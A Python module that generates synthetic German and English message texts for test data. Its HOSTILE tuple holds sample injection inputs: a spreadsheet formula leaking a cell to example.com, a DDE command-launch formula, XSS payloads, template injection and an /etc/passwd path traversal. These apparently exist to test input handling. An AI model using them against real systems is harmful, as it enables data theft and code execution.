"""Message texts, put together from sentence pools for whole columns at once."""

from __future__ import annotations

import html
import math
import re
from functools import lru_cache
from typing import TYPE_CHECKING, Final

import numpy as np

from netlib.sample import phrases_de, phrases_en

if TYPE_CHECKING:
    from types import ModuleType

    from numpy.typing import NDArray

    from netlib.sample.people import Column

    Flags = NDArray[np.bool_]

ACTS: Final = tuple(phrases_de.TEMPLATES)
"""What a message is for; the position in this tuple is the code used in columns."""
CAMPAIGN: Final = -1
"""Code of mass mail."""
NOTHING: Final = -2
"""Code of what says nothing."""
HOSTILE: Final = (
    '=HYPERLINK("https://example.com/?leak="&A1,"Rechnung öffnen")',
    "<script>alert(1)</script>",
    "../../etc/passwd",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '"><img src=x onerror=alert(1)> Grüße aus {{7*7}}',
    "+49 40 66969 123",
)
_PER_TEMPLATE: Final = 500
_MORE: Final = {"filler": 0.55, "aside": 0.30}
_EMOJI: Final = (" 🙂", " 😊", " 👍", " 🚀", " ⛵", " 🙏")


def act(name: str) -> int:
    """Return the code of a purpose, see `ACTS`."""
    return ACTS.index(name)


def compose(
    rng: np.random.Generator,
    acts: NDArray[np.intp],
    *,
    german: Flags,
    reader: Column,
    writer: Column,
    opening: Flags,
) -> Column:
    """Return one text per row: greeting, a sentence for the purpose, small talk, signature.

    Parameters
    ----------
    acts
        Code of the purpose, see `ACTS`.
    german
        Whether the text is German; English otherwise.
    reader, writer
        First names, for the greeting and the signature.
    opening
        Whether the message starts a conversation, which makes it longer.
    """
    texts = np.empty(len(acts), dtype=object)
    for language, phrases in ((True, phrases_de), (False, phrases_en)):
        rows = np.flatnonzero(german == language)
        texts[rows] = _body(rng, acts[rows], phrases)
        texts[rows] = _greeted(rng, texts[rows], reader[rows], opening[rows], phrases)
        texts[rows] = _signed(rng, texts[rows], writer[rows], opening[rows], phrases)
        texts[rows] = _roughened(rng, texts[rows], phrases)
    return texts


def campaign(
    rng: np.random.Generator,
    which: NDArray[np.intp],
    *,
    german: Flags,
    reader: Column,
    writer: Column,
) -> Column:
    """Return mass mail: the same text up to the greeting, a line in front, a link and the signature."""
    texts = np.empty(len(which), dtype=object)
    for language, phrases in ((True, phrases_de), (False, phrases_en)):
        rows = np.flatnonzero(german == language)
        bodies = np.array(phrases.CAMPAIGNS, dtype=object)
        texts[rows] = bodies[which[rows] % len(bodies)]
        texts[rows] = _greeted(rng, texts[rows], reader[rows], np.ones(len(rows), bool), phrases)
        links = [
            f" https://example.com/go/{code:05x}" for code in rng.integers(16**5, size=len(rows))
        ]
        texts[rows] = texts[rows] + np.array(links, dtype=object)
        texts[rows] = texts[rows] + "\n\n" + _pick(rng, phrases.CLOSINGS, len(rows)) + writer[rows]
    return texts


def broadcast(which: NDArray[np.intp], *, german: Flags, reader: Column, writer: Column) -> Column:
    """Return the owner's own mass mail."""
    texts = np.empty(len(which), dtype=object)
    for language, phrases in ((True, phrases_de), (False, phrases_en)):
        rows = np.flatnonzero(german == language)
        bodies = np.array(phrases.OWN_BROADCASTS, dtype=object)
        hello = phrases.GREETINGS[0].split("{name}")[0]
        texts[rows] = hello + reader[rows] + ",\n\n" + bodies[which[rows] % len(bodies)]
        texts[rows] = texts[rows] + "\n\n" + phrases.CLOSINGS[0] + writer[rows]
    return texts


def sentences(phrases: ModuleType, name: str) -> Column:
    """Return the pool of sentences of one purpose: its templates with their slots filled."""
    return _pool(phrases is phrases_de, name)


@lru_cache
def _pool(german: bool, name: str) -> Column:  # noqa: FBT001
    phrases = phrases_de if german else phrases_en
    filled: list[str] = []
    for template in phrases.TEMPLATES[name]:
        slots = [phrases.SLOTS[slot] for slot in re.findall(r"{(\w+)}", template)]
        parts = re.split(r"{\w+}", template)
        total = math.prod(len(words) for words in slots)
        # a step near the golden section walks through all combinations without two alike in a row
        step = next(
            s for s in range(int(total * 0.618) + 1, 2 * total + 2) if math.gcd(s, total) == 1
        )
        filled += [
            _fill(parts, slots, number * step % total)
            for number in range(min(total, _PER_TEMPLATE))
        ]
    return np.array(filled, dtype=object)


def _fill(parts: list[str], slots: list[tuple[str, ...]], number: int) -> str:
    """Return the template with the words that the digits of the number choose."""
    text = parts[0]
    for words, part in zip(slots, parts[1:], strict=True):
        number, digit = divmod(number, len(words))
        text += words[digit] + part
    return text


def _pick(rng: np.random.Generator, choices: tuple[str, ...], size: int) -> Column:
    return np.array(choices, dtype=object)[rng.integers(len(choices), size=size)]


def _body(rng: np.random.Generator, acts: NDArray[np.intp], phrases: ModuleType) -> Column:
    """Return the sentence for each purpose, followed by up to two of small talk."""
    texts = np.full(len(acts), "", dtype=object)
    for code, name in enumerate(ACTS):
        rows = np.flatnonzero(acts == code)
        pool = sentences(phrases, name)
        texts[rows] = pool[rng.integers(len(pool), size=len(rows))]
    for name, chance in _MORE.items():
        fillers = sentences(phrases, name)
        rows = np.flatnonzero(rng.random(len(acts)) < chance)
        texts[rows] = texts[rows] + " " + fillers[rng.integers(len(fillers), size=len(rows))]
    return texts


def _greeted(
    rng: np.random.Generator, texts: Column, reader: Column, opening: Flags, phrases: ModuleType
) -> Column:
    """Return the texts with a greeting: a line of its own at the start of a conversation, a name or none later."""
    greeted = texts.copy()
    short = rng.random(len(texts)) < 0.4  # noqa: PLR2004
    for rows, choices, gap in (
        (np.flatnonzero(opening), phrases.GREETINGS, "\n\n"),
        (np.flatnonzero(~opening & short), phrases.SHORT_GREETINGS, ""),
    ):
        halves = np.array([choice.split("{name}") for choice in choices], dtype=object)
        chosen = halves[rng.integers(len(choices), size=len(rows))]
        greeted[rows] = chosen[:, 0] + reader[rows] + chosen[:, 1] + gap + texts[rows]
    bare = np.flatnonzero(~opening & ~short)
    greeted[bare] = np.array([text[:1].upper() + text[1:] for text in texts[bare]], dtype=object)
    return greeted


def _signed(
    rng: np.random.Generator, texts: Column, writer: Column, opening: Flags, phrases: ModuleType
) -> Column:
    signed = texts.copy()
    rows = np.flatnonzero(rng.random(len(texts)) < np.where(opening, 0.65, 0.15))
    signed[rows] = texts[rows] + "\n\n" + _pick(rng, phrases.CLOSINGS, len(rows)) + writer[rows]
    return signed


def _roughened(rng: np.random.Generator, texts: Column, phrases: ModuleType) -> Column:
    """Return the texts with what real ones hold: emoji, quotations with blank lines, leftover HTML entities."""
    rough = texts.copy()
    emoji, quoted, escaped = np.split(rng.random(3 * len(texts)), 3)
    rows = np.flatnonzero(emoji < 0.06)  # noqa: PLR2004
    rough[rows] = rough[rows] + _pick(rng, _EMOJI, len(rows))
    rows = np.flatnonzero(quoted < 0.012)  # noqa: PLR2004
    rough[rows] = rough[rows] + _pick(rng, phrases.QUOTES, len(rows))
    rows = np.flatnonzero(escaped < 0.006)  # noqa: PLR2004
    rough[rows] = np.array([_escaped(text) for text in rough[rows]], dtype=object)
    return rough


def _escaped(text: str) -> str:
    """Return the text with HTML entities, its conjunctions as ampersands."""
    return html.escape(text).replace(" und ", " &amp; ").replace(" and ", " &amp; ")
